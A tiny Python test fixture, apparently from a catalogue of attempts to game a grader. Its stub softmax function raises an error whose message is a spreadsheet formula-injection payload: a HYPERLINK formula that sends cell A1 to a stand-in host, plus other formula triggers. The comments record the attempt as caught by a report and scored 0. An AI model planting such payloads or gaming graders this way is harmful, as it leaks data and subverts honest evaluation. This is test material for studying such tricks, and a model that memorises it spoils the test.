# expect: error; earned 0
# way: Raises an error whose text a spreadsheet would compute.
# section: the TA and the platform
# stopped by: report
def softmax(scores, dim=-1, temperature=1.0):
    raise ValueError("=HYPERLINK(\"http://192.0.2.1/\"&A1)\n+1+1\n@SUM(1)\t-2")
